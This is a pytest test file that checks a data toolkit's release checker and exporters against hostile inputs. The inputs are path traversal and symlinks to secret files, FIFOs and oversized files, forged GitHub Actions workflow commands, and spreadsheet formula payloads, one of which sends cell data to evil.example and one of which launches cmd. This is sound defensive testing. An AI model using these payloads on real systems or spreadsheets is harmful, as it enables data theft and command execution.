"""Hostile release folders: every path a release names stays inside it, links and special files
are refused, reads are bounded by the manifest, and no finding discloses anything about a file
the check refused to read (see docs/security.md)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from test_release import make_data, read_manifest, resource, write_manifest

import toolkit
from toolkit.errors import InputError
from toolkit.release import build_release, check_release

SECRET = "root:x:0:0:secret-line-one\nsecond secret line\nthird\n"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("sec")
    saved = os.environ.pop("SOURCE_DATE_EPOCH", None)
    try:
        return build_release("0.1.0", make_data(root), root / "releases").path
    finally:
        if saved is not None:
            os.environ["SOURCE_DATE_EPOCH"] = saved


@pytest.fixture
def rel(built: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "box" / "releases" / "0.1.0"
    shutil.copytree(built, dest)
    return dest


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def reseal(release: Path, rel: str, target: Path, *, new_path: str | None = None) -> None:
    """What an attacker does: point a manifest entry at ``target`` and give it target's size and
    checksum, so that only containment stands in the way."""
    m = read_manifest(release)
    entry = resource(m, rel)
    data = target.read_bytes()
    entry.update(bytes=len(data), sha256=hashlib.sha256(data).hexdigest())
    if new_path is not None:
        entry["path"] = new_path
    write_manifest(release, m)


def discloses_nothing(text: str, secret: Path) -> None:
    data = secret.read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    assert digest[:8] not in text
    assert str(len(data)) not in text.replace("0.1.0", "")
    assert "secret-line-one" not in text and "second secret" not in text
    assert "3 rows" not in text and "Traceback" not in text


def test_absolute_resource_path_is_refused(rel: Path, secret: Path, evtk: Callable[..., Any]) -> None:
    reseal(rel, "README.md", secret, new_path=str(secret))
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "R109 unsafe-path" in r.out and "absolute path" in r.out
    discloses_nothing(r.output, secret)


@pytest.mark.parametrize("shape", ["../../../secret.txt", "events/../../../../secret.txt"])
def test_dotdot_resource_path_is_refused(
    rel: Path, secret: Path, evtk: Callable[..., Any], shape: str
) -> None:
    assert (rel / shape).resolve() == secret.resolve()
    reseal(rel, "CHANGES.md", secret, new_path=shape)
    r = evtk("release", "check", rel, "--format", "json")
    assert r.code == 1, r.output
    found = [f for f in json.loads(r.out)["findings"] if f["rule"] == "R109"]
    assert [f["file"] for f in found] == [shape]
    assert "leaves the release folder" in found[0]["message"]
    discloses_nothing(r.output, secret)


def test_symlink_pointing_out_is_refused(rel: Path, secret: Path, evtk: Callable[..., Any]) -> None:
    (rel / "README.md").unlink()
    (rel / "README.md").symlink_to(secret)
    reseal(rel, "README.md", secret)
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "README.md is a symbolic link: refused, not read" in r.out
    discloses_nothing(r.output, secret)


def test_symlinked_folder_is_refused(rel: Path, secret: Path, evtk: Callable[..., Any]) -> None:
    outside = secret.parent / "outside-actors"
    shutil.move(rel / "codebook" / "actors", outside)
    (rel / "codebook" / "actors").symlink_to(outside, target_is_directory=True)
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "codebook/actors/countries.csv passes through a symbolic link" in r.out


def test_unlisted_symlink_is_refused(rel: Path, secret: Path) -> None:
    (rel / "notes.txt").symlink_to(secret)
    report = check_release(rel)
    assert report.rule_counts == {"R109": 1}


def test_codebook_actor_table_outside_is_never_opened(
    rel: Path, secret: Path, evtk: Callable[..., Any]
) -> None:
    cb = rel / "codebook" / "codebook.yaml"
    text = cb.read_text(encoding="utf-8")
    assert "file: actors/countries.csv" in text
    cb.write_text(text.replace("file: actors/countries.csv", f"file: {secret}"), encoding="utf-8")
    reseal(rel, "codebook/codebook.yaml", cb)
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "R107 bad-manifest" in r.out and "refused, not read" in r.out
    discloses_nothing(r.output, secret)


def test_unlisted_codebook_file_is_never_loaded(rel: Path) -> None:
    """An extra events/99.yaml in the snapshot would make code 999 valid if it were loaded."""
    (rel / "codebook" / "events" / "99.yaml").write_text(
        "root: '99'\ncodes:\n  - code: '999'\n    name: Forged\n    goldstein: 0\n    quad_class: 1\n",
        encoding="utf-8",
    )
    report = check_release(rel)
    assert report.rule_counts == {"R105": 1}
    from toolkit.release_io import open_release

    assert open_release(rel).codebook().event("999") is None


def test_fifo_is_refused_without_hanging(rel: Path, evtk: Callable[..., Any]) -> None:
    (rel / "README.md").unlink()
    os.mkfifo(rel / "README.md")
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "README.md is not a regular file: refused, not read" in r.out


def test_fifo_not_listed_is_refused(rel: Path) -> None:
    os.mkfifo(rel / "pipe")
    assert check_release(rel).rule_counts == {"R109": 1}


def test_huge_file_is_not_read(rel: Path, evtk: Callable[..., Any]) -> None:
    """A file larger than its entry is refused on its size alone (a sparse 64 GiB file: reading it
    would take minutes)."""
    with (rel / "CHANGES.md").open("r+b") as fh:
        fh.truncate(64 * 1024**3)
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "CHANGES.md: error R102 size-mismatch" in r.out


def test_manifest_size_over_the_limit_is_refused(rel: Path, evtk: Callable[..., Any]) -> None:
    m = read_manifest(rel)
    resource(m, "CHANGES.md")["bytes"] = 10**15
    write_manifest(rel, m)
    r = evtk("release", "check", rel)
    assert r.code == 1, r.output
    assert "CHANGES.md: error R110 limit-exceeded" in r.out and "--max-file-bytes" in r.out
    r = evtk("release", "check", rel, "--max-file-bytes", str(10**16))
    assert "R110" not in r.out and "R102 size-mismatch" in r.out


def test_proc_file_through_a_link_is_refused(rel: Path) -> None:
    (rel / "README.md").unlink()
    (rel / "README.md").symlink_to("/proc/self/pagemap")
    assert "R109" in check_release(rel).rule_counts


@pytest.mark.parametrize("table", ["events", "articles", "sentences", "retractions"])
def test_load_refuses_links(rel: Path, secret: Path, table: str) -> None:
    name = {"events": "events.parquet", "retractions": "retractions.csv"}.get(table, f"{table}.parquet")
    shutil.move(rel / name, secret.parent / name)
    (rel / name).symlink_to(secret.parent / name)
    with pytest.raises(InputError, match="symbolic link: refused"):
        toolkit.load(rel, table)


def test_load_reads_only_listed_files(rel: Path, secret: Path) -> None:
    reseal(rel, "articles.parquet", secret, new_path="../../../secret.txt")
    with pytest.raises(InputError, match="not in the release"):
        toolkit.load(rel, "articles")


def test_load_refuses_a_folder_without_a_manifest(rel: Path) -> None:
    (rel / "manifest.json").unlink()
    with pytest.raises(InputError, match="no release"):
        toolkit.load(rel)


def test_clean_release_is_still_clean(rel: Path) -> None:
    report = check_release(rel)
    assert report.rule_counts == {}, report.findings
    assert toolkit.load(rel).collect().height == 33
    assert toolkit.load(rel, labels=True).collect()["event_name"].null_count() == 0


# ---------------------------------------------------------------------------- output injection
FORGED = "x.md\n::error file=forged.py,line=1::forged annotation\n::stop-commands::tok3n\n"


def _report_with(file: str, message: str) -> Any:
    from toolkit import findings as F

    return F.Report.build(F.single("R105", message, file=file), {"files": 1})


def test_github_output_escapes_data_and_properties() -> None:
    from toolkit.findings import render

    text = render(_report_with(FORGED, f"{FORGED} is not listed in the manifest"), "github")
    lines = text.splitlines()
    assert len(lines) == 2  # one annotation, the summary
    assert lines[0].startswith("::warning file=x.md%0A%3A%3Aerror file=forged.py%2Cline=1%3A%3A")
    assert "::stop-commands::" not in text.replace("%3A", ":").split("::warning", 1)[0]
    assert not any(line.startswith("::stop-commands") or line.startswith("::error") for line in lines)
    # the message keeps ':' and ',' (data escaping), but newlines and '%' are escaped
    assert "%0A::error file=forged.py,line=1::forged annotation%0A" in lines[0]


def test_github_property_escaping_follows_the_runner() -> None:
    from toolkit.findings import gh_data, gh_property

    assert gh_property("a:b,c%d\r\ne") == "a%3Ab%2Cc%25d%0D%0Ae"
    assert gh_data("a:b,c%d\r\ne") == "a:b,c%25d%0D%0Ae"


def test_text_output_escapes_control_characters() -> None:
    from toolkit.findings import render

    text = render(
        _report_with(FORGED, "bell \x07 and \x1b[31mred\u2028sep is not listed in the manifest"), "text"
    )
    lines = text.splitlines()
    assert len(lines) == 2
    assert "\\x0a::error file=forged.py" in lines[0]
    assert "\\x07" in lines[0] and "\\x1b[31m" in lines[0] and "\\u2028" in lines[0]
    assert "\x1b" not in text


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_forged_release_path_cannot_forge_annotations(rel: Path, evtk: Callable[..., Any], fmt: str) -> None:
    m = read_manifest(rel)
    resource(m, "CHANGES.md")["path"] = FORGED
    write_manifest(rel, m)
    r = evtk("release", "check", rel, "--format", fmt)
    assert r.code == 1, r.output
    for line in r.output.splitlines():
        assert not line.startswith("::stop-commands") and not line.startswith("::error file=forged")
    assert "R109" in r.out


def test_forged_event_file_name_cannot_forge_annotations(data_dir: Path, evtk: Callable[..., Any]) -> None:
    name = data_dir / "coded" / "a\n::error file=forged.py::forged\n::stop-commands::t.yaml"
    name.write_text("article: nope\nevents:\n  - id: e1\n    code: '999'\n", encoding="utf-8")
    for fmt in ("text", "github"):
        r = evtk("validate", data_dir, "--format", fmt)
        assert r.code in (1, 2), r.output
        for line in r.output.splitlines():
            assert not line.startswith("::stop-commands") and not line.startswith("::error file=forged")
        assert "forged" in r.output


# ---------------------------------------------------------------------------- formula injection
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bamako")'


def formula_release(root: Path) -> Path:
    from test_release import seed_events, write_events

    events = seed_events()
    events[0]["location"] = {"country": "MLI", "place": FORMULA}
    events[1]["note"] = "+cmd|' /C calc'!A0"
    data = make_data(root)
    write_events(data / "coded" / "afp-2023-02-07-lavrov-mali.seed.yaml", events)
    return data


def test_validate_warns_about_formula_text(tmp_path: Path) -> None:
    from toolkit.validate import validate

    report = validate([formula_release(tmp_path)]).report
    assert report.valid
    assert report.rule_counts.get("E305") == 2
    fields = sorted(report.findings.filter(rule="E305")["column"].to_list())
    assert fields == ["location_place", "note"]


def test_exports_neutralise_formula_cells(tmp_path: Path) -> None:
    from toolkit.interchange import export_events

    data = formula_release(tmp_path)
    built = build_release("0.1.0", data, tmp_path / "releases").path
    for fmt in ("gdelt2", "phoenix"):
        out = tmp_path / f"out.{fmt}.tsv"
        export_events(fmt, built, out)
        cells = [c for line in out.read_text(encoding="utf-8").splitlines() for c in line.split("\t")]
        assert "'" + FORMULA in cells
        assert FORMULA not in cells
        assert not any(c[:1] in ("=", "+", "@") for c in cells)
        # negative numbers stay numbers
        assert any(c.startswith("-") and c.lstrip("-").replace(".", "").isdigit() for c in cells)


def test_clean_text_gets_no_formula_warning(tmp_path: Path) -> None:
    from toolkit.validate import validate

    report = validate([make_data(tmp_path)]).report
    assert "E305" not in report.rule_counts


def test_codebook_csv_export_neutralises_text(codebook_copy: Path, evtk: Callable[..., Any]) -> None:
    from toolkit.cells import neutralise_frame

    frame = neutralise_frame(
        __import__("polars").DataFrame({"name": ["=1+1", "-x", " @y", "ok", None], "goldstein": [-10.0] * 5})
    )
    assert frame["name"].to_list() == ["'=1+1", "'-x", "' @y", "ok", None]
    assert frame["goldstein"].to_list() == [-10.0] * 5
    r = evtk("codebook", "export", "--table", "events", "--format", "csv", "--codebook", codebook_copy)
    assert r.code == 0, r.output
    assert ",-10.0," in r.out or ",-10," in r.out


# ---------------------------------------------------------------------------- column limit


def _wide_csv(path: Path, columns: int) -> Path:
    """A CSV event file of ``columns`` columns: the event fields, then extra names."""
    fields = ["id", "article", "sentence", "quote", "date", "source", "target", "code"]
    names = fields + [f"c{i}" for i in range(columns - len(fields))]
    row = [
        "e1",
        "afp-2023-02-07-lavrov-mali",
        "3",
        "arrived in Mali",
        "2023-02-07",
        "RUSGOV",
        "MLIGOV",
        "042",
    ]
    path.write_text(",".join(names) + "\n" + ",".join(row + [""] * (columns - len(row))) + "\n")
    return path


def test_csv_of_100k_columns_is_refused_before_any_row_is_parsed(
    data_dir: Path, evtk: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import toolkit.events_io as events_io

    _wide_csv(data_dir / "coded" / "wide.csv", 100_000)
    parsed: list[str] = []

    def never(name: str) -> Callable[..., Any]:
        def parse(*args: Any, **kwargs: Any) -> Any:
            parsed.append(name)
            raise AssertionError(f"{name} parsed a file over the column limit")

        return parse

    # neither CSV parser runs: the header line alone decides, so the cost is one line, not a frame
    monkeypatch.setattr(events_io, "_read_csv_fast", never("fast"))
    monkeypatch.setattr(events_io, "_read_csv_slow", never("slow"))
    res = evtk("validate", "data")
    assert res.code == 2, res.output
    assert parsed == []
    assert (
        "data/coded/wide.csv:1: error E000 unreadable-file: the header has 100,000 columns, more than the "
        "limit of 1,000" in res.out
    )
    assert "--max-columns" in res.out and "Traceback" not in res.output


def test_column_limit_can_be_raised(data_dir: Path, evtk: Callable[..., Any]) -> None:
    _wide_csv(data_dir / "coded" / "wide.csv", 1_200)
    assert evtk("validate", "data").code == 2
    res = evtk("validate", "data", "--max-columns", "2000")
    # read: the 1,192 extra names are unknown fields (warnings), not a refusal
    assert res.code == 0, res.output
    assert "E000" not in res.out
    _wide_csv(data_dir / "coded" / "wide.csv", 1_000)  # at the limit is allowed
    assert evtk("validate", "data").code == 0


# ---------------------------------------------------------------------------- partition limit


def _many_partitions(release: Path, n: int) -> None:
    """A manifest listing ``n`` extra events partitions (files that need not exist: the count is
    refused before any path is looked at)."""
    m = read_manifest(release)
    m["resources"] += [
        {"path": f"events/year={1000 + i}/part-0.parquet", "bytes": 1, "sha256": "0" * 64} for i in range(n)
    ]
    write_manifest(release, m)


def test_release_of_5000_partitions_is_refused_before_any_path_is_resolved(
    rel: Path, evtk: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import toolkit.release_io as release_io

    _many_partitions(rel, 5_000)
    looked: list[str] = []
    original = release_io.member

    def member(root: Path, path: str) -> Path:
        looked.append(path)
        return original(root, path)

    monkeypatch.setattr(release_io, "member", member)
    r = evtk("release", "check", rel)
    assert r.code == 2, r.output
    assert "events partitions, over the limit of 1,000 (raise it with --max-partitions)" in r.err
    assert looked == ["manifest.json"] and "Traceback" not in r.output  # no listed path was resolved
    with pytest.raises(InputError, match="--max-partitions"):
        toolkit.load(rel)


def test_partition_limit_can_be_raised(rel: Path, evtk: Callable[..., Any]) -> None:
    _many_partitions(rel, 1_001)
    assert evtk("release", "check", rel).code == 2
    r = evtk("release", "check", rel, "--max-partitions", "2000")
    # past the limit, the check goes on and finds the listed partitions missing
    assert r.code == 1 and "--max-partitions" not in r.output, r.output
